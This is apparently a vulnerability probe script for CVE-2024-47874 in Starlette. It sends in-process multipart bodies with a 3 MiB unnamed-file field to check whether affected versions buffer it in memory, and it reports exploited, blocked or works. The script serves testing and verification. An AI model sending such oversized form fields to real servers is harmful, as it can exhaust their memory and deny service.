# /// vertice-probe
# id = "GHSA-f96h-pmfr-66vw"
# aliases = ["CVE-2024-47874"]
# package = "starlette"
# summary = "A part of a multipart form without a file name is kept in memory whatever its size."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H" }]
# cwe = ["CWE-770"]
# kind = "dos"
# symbols = [
#   "starlette.requests.Request.form",
#   "starlette.formparsers.MultiPartParser",
#   "fastapi.Form",
#   "fastapi.File",
#   "fastapi.UploadFile",
#   "fastapi.Request",
# ]
# needs = ["python-multipart"]
#
# [[affected]]
# package = "starlette"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "0.40.0" }] }]
#
# [cases]
# attack = "a field of 3 MiB is read into memory"
# [cases.variants]
# stream = "the same in an application, in small pieces and behind a file"
# [cases.controls]
# form = "an ordinary form with a field and a file beyond the limit is read"
#
# [test]
# vulnerable = "0.39.2"
# fixed = "0.40.0"
# ///
"""CVE-2024-47874: form fields without a limit of size."""

import asyncio
import json
import sys
import warnings

warnings.simplefilter("ignore")
LARGE = 3 * 1024 * 1024


def body(*parts):
    """A multipart body of (name, file name or None, content)."""
    data = b""
    for name, filename, content in parts:
        extra = '; filename="%s"' % filename if filename else ""
        data += (
            ('--abc\r\nContent-Disposition: form-data; name="%s"%s\r\n\r\n' % (name, extra)).encode()
            + content
            + b"\r\n"
        )
    return data + b"--abc--\r\n"


def scope():
    return {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": "/",
        "raw_path": b"/",
        "query_string": b"",
        "root_path": "",
        "headers": [(b"host", b"shop.example"), (b"content-type", b"multipart/form-data; boundary=abc")],
        "client": ("127.0.0.1", 1),
        "server": ("127.0.0.1", 80),
    }


def receiver(data, size):
    pieces = [data[start : start + size] for start in range(0, len(data), size)]

    async def receive():
        return {"type": "http.request", "body": pieces.pop(0), "more_body": bool(pieces)}

    return receive


async def read(data):
    """{name: length of field, or content length of file}"""
    from starlette.requests import Request

    form = await Request(scope(), receiver(data, 65536)).form()
    got = {}
    for name, value in form.multi_items():
        got[name] = len(value) if isinstance(value, str) else len(await value.read())
    return got


def attack():
    from starlette.formparsers import MultiPartException

    if asyncio.run(read(body(("note", None, b"hello")))) != {"note": 5}:
        return "error", "a small form was not read"
    try:
        got = asyncio.run(read(body(("note", None, b"x" * LARGE))))
    except MultiPartException as error:
        return "blocked", "MultiPartException: %s" % error.message
    return ("exploited" if got == {"note": LARGE} else "error"), "a field of %d bytes was read" % got.get("note", 0)


def post(data):
    """(status, text) of an application that says how long the field `note` is."""
    from starlette.applications import Starlette
    from starlette.responses import PlainTextResponse
    from starlette.routing import Route

    async def page(request):
        return PlainTextResponse("length %d" % len((await request.form())["note"]))

    sent = []

    async def send(message):
        sent.append(message)

    asyncio.run(Starlette(routes=[Route("/", page, methods=["POST"])])(scope(), receiver(data, 4096), send))
    return sent[0]["status"], b"".join(message.get("body", b"") for message in sent[1:]).decode()


def stream():
    file = ("file", "a.txt", b"some file")
    if post(body(file, ("note", None, b"hello"))) != (200, "length 5"):
        return "error", "a small form was not read"
    status, text = post(body(file, ("note", None, b"x" * LARGE)))
    if (status, text) == (200, "length %d" % LARGE):
        return "exploited", "the application read a field of %d bytes" % LARGE
    if status == 400 and "exceeded maximum size" in text:
        return "blocked", "answered 400: %s" % text
    return "error", "answered %d %s" % (status, text[:80])


def form():
    got = asyncio.run(read(body(("note", None, b"x" * 1000), ("file", "a.bin", b"y" * LARGE))))
    good = got == {"note": 1000, "file": LARGE}
    return ("works", "field and large file read") if good else ("broken", repr(got))


CASES = {"attack": attack, "stream": stream, "form": form}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
